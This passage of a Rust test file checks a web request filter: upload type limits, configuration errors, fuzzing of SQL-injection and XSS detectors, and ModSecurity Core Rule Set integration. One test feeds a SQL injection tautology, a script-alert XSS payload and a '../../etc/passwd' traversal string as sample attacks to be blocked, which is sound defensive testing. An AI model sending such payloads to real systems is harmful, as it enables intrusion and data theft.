    assert_passed(&send_to(images.clone(), file("a.png", Some("image/png"), PNG)).await);
    let answer = send_to(images, file("a.txt", Some("text/plain"), b"text")).await;
    assert_eq!(answer.code.as_deref(), Some("upload_type_refused"));
}

// ------------------------------------------------------------------------------------------
// Configuration
// ------------------------------------------------------------------------------------------

#[test]
fn configuration_errors_name_the_field() {
    let cases: &[(Value, &str)] = &[
        (json!({"skip": ["POST webhooks"]}), "skip[0]"),
        (json!({"skip": ["post /webhooks"]}), "skip[0]"),
        (json!({"skip": ["ok", ""]}), "skip[1]"),
        (json!({"max_body_bytes": 0}), "max_body_bytes"),
        (json!({"uploads": {"max_bytes": 0}}), "uploads.max_bytes"),
        (
            json!({"uploads": {"allowed_types": ["image/png", "png"]}}),
            "uploads.allowed_types[1]",
        ),
        (
            json!({"uploads": {"allowed_types": ["text/plain; charset=utf-8"]}}),
            "uploads.allowed_types[0]",
        ),
    ];
    for (value, at) in cases {
        let error = config(value.clone()).unwrap_err();
        assert!(error.starts_with(at), "{value}: {error}");
    }
    // Unknown fields and levels are refused by the parser.
    assert!(config(json!({"sensitive": "high"})).is_err());
    assert!(config(json!({"sensitivity": "paranoid"})).is_err());
    assert!(config(json!({"uploads": {"types": []}})).is_err());
    // Everything is optional.
    assert!(config(json!({})).is_ok());
}

// ------------------------------------------------------------------------------------------
// Properties
// ------------------------------------------------------------------------------------------

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn plain_words_are_never_flagged(text in "[a-zA-Z0-9 ]{0,80}") {
        prop_assert!(inject::sqli(&text).is_none(), "sqli: {:?}", text);
        prop_assert!(inject::xss(&text).is_none(), "xss: {:?}", text);
    }

    #[test]
    fn detectors_never_panic(text in any::<String>()) {
        for level in [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High] {
            let _ = inject::sqli_at(&text, level);
            let _ = inject::xss_at(&text, level);
        }
    }

    #[test]
    fn markup_like_noise_never_panics(text in r#"[<>"'=/&#;%\\a-z0-9 :()*-]{0,120}"#) {
        for level in [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High] {
            let _ = inject::sqli_at(&text, level);
            let _ = inject::xss_at(&text, level);
        }
    }
}

// ------------------------------------------------------------------------------------------
// ModSecurity rules (the cargo feature `crs`)
// ------------------------------------------------------------------------------------------

#[cfg(not(feature = "crs"))]
#[test]
fn modsecurity_rules_need_the_crs_feature() {
    // Configured without the engine: an error naming the key, never a stage that lets all pass.
    let error = config(json!({"crs": {"directives": "SecRuleEngine On"}})).unwrap_err();
    assert!(
        error.starts_with("crs.files") && error.contains("`crs`"),
        "{error}"
    );
}

#[test]
fn modsecurity_settings_are_checked() {
    for (raw, at) in [
        (json!({"crs": {}}), "crs.files"),
        (
            json!({"crs": {"files": ["/nonexistent/folder/*.conf"]}}),
            "crs.files[0]",
        ),
    ] {
        let error = config(raw.clone()).unwrap_err();
        assert!(error.starts_with(at), "{raw}: {error}");
    }
}

#[cfg(feature = "crs")]
mod crs {
    use super::*;

    /// Debian's CRS (package modsecurity-crs): the setup file and the rules.
    const CRS_SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";
    const CRS_RULES: &str = "/usr/share/modsecurity-crs/rules/*.conf";

    /// Whether the CRS is installed; under `CI=true` it must be (scripts/test installs it).
    fn crs_installed() -> bool {
        let installed = std::path::Path::new(CRS_SETUP).exists()
            && std::path::Path::new("/usr/share/modsecurity-crs/rules").is_dir();
        if !installed {
            assert!(
                std::env::var("CI").as_deref() != Ok("true"),
                "the OWASP CRS (Debian modsecurity-crs) is not installed and CI=true requires it"
            );
            eprintln!("notice: the OWASP CRS is not installed; skipping");
        }
        installed
    }

    /// Only the ModSecurity rules decide: the stage's own detectors are off.
    fn rules_only(crs: Value) -> Injection {
        config(json!({
            "sql": false, "xss": false, "traversal": false, "command": false,
            "crs": crs,
        }))
        .unwrap()
    }

    #[tokio::test]
    async fn a_rule_of_ones_own_refuses_with_its_id() {
        let injection = rules_only(json!({"directives": "SecRuleEngine On\n\
            SecRule ARGS \"@contains forbidden-word\" \"id:100001,phase:2,deny,status:403,log,msg:'no'\"\n\
            SecRule REQUEST_HEADERS:X-Probe \"@streq 1\" \"id:100002,phase:1,deny,status:406,log\"\n"}));
        let answer = send_to(injection.clone(), query("q", "a forbidden-word here")).await;
        assert_eq!(answer.status, StatusCode::FORBIDDEN, "{answer:?}");
        assert_eq!(answer.code.as_deref(), Some("crs_refused"));
        assert!(answer.message.contains("100001"), "{answer:?}");
        assert_passed(&send_to(injection.clone(), query("q", "a fine word")).await);
        // A phase-1 rule on a header, with its own status.
        let mut probe = query("q", "x");
        probe
            .headers_mut()
            .insert("x-probe", header::HeaderValue::from_static("1"));
        let answer = send_to(injection.clone(), probe).await;
        assert_eq!(answer.status, StatusCode::NOT_ACCEPTABLE, "{answer:?}");
        assert!(answer.message.contains("100002"), "{answer:?}");
        // A form body is seen too.
        let answer = send_to(injection, form(&[("comment", "forbidden-word")])).await;
        assert_eq!(answer.code.as_deref(), Some("crs_refused"), "{answer:?}");
    }

    #[tokio::test]
    async fn the_core_rule_set_refuses_attacks_and_passes_ordinary_requests() {
        if !crs_installed() {
            return;
        }
        let injection = rules_only(json!({
            "files": [CRS_SETUP, CRS_RULES],
            "directives": "SecRuleEngine On\nSecRequestBodyAccess On\n",
        }));
        for attack in [
            "' OR '1'='1' --",
            "<script>alert(1)</script>",
            "../../etc/passwd",
        ] {
            let answer = send_to(injection.clone(), query("q", attack)).await;
            assert_eq!(answer.status, StatusCode::FORBIDDEN, "{attack}: {answer:?}");
            assert_eq!(answer.code.as_deref(), Some("crs_refused"), "{attack}");
        }
        let mut ordinary = query("q", "shoes size 42");
        ordinary.headers_mut().insert(
            header::USER_AGENT,
            header::HeaderValue::from_static("Mozilla/5.0 (X11; Linux x86_64)"),
        );
        ordinary.headers_mut().insert(
            header::HOST,
            header::HeaderValue::from_static("shop.example"),
        );
        ordinary.headers_mut().insert(
            header::ACCEPT,
            header::HeaderValue::from_static("text/html"),
        );
        assert_passed(&send_to(injection, ordinary).await);
    }
}
